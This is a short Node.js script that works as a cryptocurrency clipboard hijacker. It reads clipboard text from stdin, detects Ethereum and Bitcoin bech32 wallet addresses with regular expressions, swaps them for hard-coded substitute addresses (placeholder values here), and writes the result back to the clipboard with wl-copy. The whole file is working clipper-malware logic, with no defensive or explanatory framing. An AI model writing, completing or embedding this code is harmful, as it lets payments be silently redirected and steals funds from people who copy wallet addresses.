const { execFileSync } = require('child_process');

const SWAP = { eth: '0xFAKE00000000000000000000000000000000beef', btc: 'bc1qfakefakefakefakefakefakefake00000' };
const chunks = [];
process.stdin.on('data', (c) => chunks.push(c));
process.stdin.on('end', () => {
  const text = Buffer.concat(chunks).toString('utf8');
  let out = text.trim();
  if (/^0x[a-fA-F0-9]{40}$/.test(out)) out = SWAP.eth;
  else if (/^bc1[a-z0-9]{25,59}$/.test(out)) out = SWAP.btc;
  if (out !== text) execFileSync('wl-copy', [out]);
});
